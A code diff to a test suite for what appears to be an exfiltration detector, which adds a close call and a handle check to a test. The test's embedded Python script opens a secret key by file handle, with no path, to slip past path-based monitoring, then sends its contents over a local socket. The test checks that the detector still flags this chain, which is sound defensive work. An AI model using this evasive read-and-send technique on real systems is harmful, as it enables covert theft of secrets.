@@ -142,7 +142,7 @@ describe('live: read-then-transmit chains', () => {
     expect(f.chain[0]!.object).toBe(`${moved} (first named ${k})`);
   });
 
-  it('a file opened by a handle, with no path at all (name_to_handle_at + open_by_handle_at), read and sent: named from its descriptor', async () => {
+  it('a file opened by a handle, with no path at all (name_to_handle_at + open_by_handle_at), read, closed and sent: named from the handle', async () => {
     const { k } = ownKey('by-handle');
     const script = `
 import ctypes, os, socket
@@ -158,6 +158,7 @@ fd = libc.open_by_handle_at(mount_fd, ctypes.byref(h), os.O_RDONLY)
 if fd < 0:
     raise OSError(ctypes.get_errno(), "open_by_handle_at")
 data = os.read(fd, 65536)
+os.close(fd)
 s = socket.create_connection(("127.0.0.2", ${tcp.port})); s.sendall(data); s.close()
 `;
     const r = await h.run('by-handle', `python3 -c '${script}'`);
@@ -165,7 +166,8 @@ s = socket.create_connection(("127.0.0.2", ${tcp.port})); s.sendall(data); s.clo
     // no open of the key by its path: only by the handle, which the probe reports with no path
     expect(ofKind(r.events, 'file.open').filter((e) => e.path === k)).toEqual([]);
     const open = ofKind(r.events, 'file.open').find((e) => e.syscall === 'open_by_handle_at');
-    expect(open).toMatchObject({ path: '', ret: expect.any(Number), real_path: k, abs: { real: k }, res: { ret: { path: k } } });
+    // closed at once: named from the handle it passed (ext4's: the inode and its generation, 8 bytes), opened again by chainwatch
+    expect(open).toMatchObject({ path: '', ret: expect.any(Number), handle: { type: 1, bytes: 8 }, real_path: k, abs: { real: k }, res: { ret: { path: k } } });
     const f = only(r.findings.filter((x) => x.rule === 'exfil.read-then-transmit'));
     expect(f.source).toMatchObject({ path: k, data_class: 'secret' });
     expect(f.sink).toMatchObject({ address: '127.0.0.2', port: tcp.port });
